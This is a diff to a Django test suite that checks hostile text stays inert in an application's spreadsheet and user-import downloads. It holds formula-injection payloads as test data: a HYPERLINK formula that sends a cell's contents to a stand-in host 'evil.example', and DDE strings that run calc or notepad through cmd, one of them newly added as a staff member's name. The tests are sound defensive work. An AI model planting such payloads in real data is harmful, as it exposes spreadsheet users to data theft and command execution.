@@ -45,7 +45,10 @@ from tests.test_permissions import ACTIONS, ACTORS, EXPECTED, world  # noqa: F40
 NAME = '=HYPERLINK("https://evil.example/?x="&A1,"x")'
 NARRATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"
 DRAFT = "+cmd|' /C notepad'!A0"
+PERSON = "-2+3+cmd|' /C calc'!A0"  # a person's name, as the account list writes it
 SPREADSHEET_TYPES = ("text/csv", writing.FORMATS["xlsx"], writing.FORMATS["ods"])
+# Downloads that are documents, not spreadsheets: no cell of theirs can hold a formula.
+DOCUMENT_TYPES = ("application/pdf", "application/vnd.oasis.opendocument.text")
 
 
 @dataclass
@@ -64,6 +67,7 @@ def hostile(cast, settings, seeded_plan):
     Indicator.objects.filter(pk=indicator.pk).update(name=NAME)
     indicator.refresh_from_db()
     staff = cast["staff"]
+    type(staff).objects.filter(pk=staff.pk).update(first_name=PERSON)
     report = services.report_save(
         indicator=indicator,
         period=periods["113Q4"],
@@ -117,6 +121,13 @@ DOWNLOADS = {
         ),
         [NAME],
     ),
+    # Everyone who holds a role, as a file to edit and upload again (plans.people).
+    "user_import_template": (
+        "admin",
+        ["xlsx", "ods", "csv"],
+        lambda c, h, f: c.get(reverse("kpi:user_import_template"), {"format": f}),
+        [PERSON],
+    ),
     # The empty template carries no one's text: its row labels stand in (read back as text).
     "plan_workbook_template": (
         "planner",
@@ -153,7 +164,11 @@ def ods_cells(content: bytes) -> list[tuple[str, str | None, bool]]:
     ]
 
 
-def assert_inert(fmt: str, content: bytes, texts: list[str]) -> None:
+# Downloads with no figure in them (a list of people): nothing to check "numbers stay numbers" on.
+WITHOUT_NUMBERS = {"user_import_template"}
+
+
+def assert_inert(fmt: str, content: bytes, texts: list[str], numbers: bool = True) -> None:
     if fmt == "csv":
         cells = csv_cells(content)
         for text in texts:
@@ -172,14 +187,16 @@ def assert_inert(fmt: str, content: bytes, texts: list[str]) -> None:
             matches = [c for c in cells if c.value == text]
             assert matches, f"{text!r} is missing"
             assert {c.data_type for c in matches} == {"s"}
-        assert any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells), "numbers became text"
+        assert not numbers or any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells), (
+            "numbers became text"
+        )
     else:
         cells = ods_cells(content)
         assert [c for c in cells if c[2]] == [], "a cell carries a table:formula"
         for text in texts:
             types = {value_type for cell_text, value_type, _formula in cells if cell_text == text}
             assert types == {"string"}, f"{text!r}: {types or 'missing'}"
-        assert any(value_type == "float" for _text, value_type, _formula in cells), "numbers became text"
+        assert not numbers or any(value_type == "float" for _text, value_type, _formula in cells), "numbers became text"
         # tablib (what django-import-export reads an ods with) reads the text back as written.
         book = tablib.Databook().load(content, "ods")
         assert any(text in row for sheet in book.sheets() for row in sheet for text in texts)
@@ -195,7 +212,7 @@ def test_hostile_text_is_inert_in_every_download(client, cast, hostile, download
 
     assert response.status_code == 200, response.content[:300]
     assert response["Content-Type"].split(";")[0] == writing.FORMATS[fmt].split(";")[0]
-    assert_inert(fmt, response.content, texts)
+    assert_inert(fmt, response.content, texts, numbers=download not in WITHOUT_NUMBERS)
 
 
 def test_json_open_data_keeps_the_text_as_written(client, hostile):
@@ -269,7 +286,8 @@ def test_every_spreadsheet_download_is_checked_here(client, cast, world):  # noq
             client.force_login(cast[actor])
         response = client.get(url)
         content_type = response.get("Content-Type", "").split(";")[0]
-        if content_type in SPREADSHEET_TYPES or "attachment" in response.get("Content-Disposition", ""):
+        attachment = "attachment" in response.get("Content-Disposition", "")
+        if content_type in SPREADSHEET_TYPES or (attachment and content_type not in DOCUMENT_TYPES):
             if isinstance(response, FileResponse):
                 b"".join(response.streaming_content)
                 if getattr(response, "file_to_stream", None):
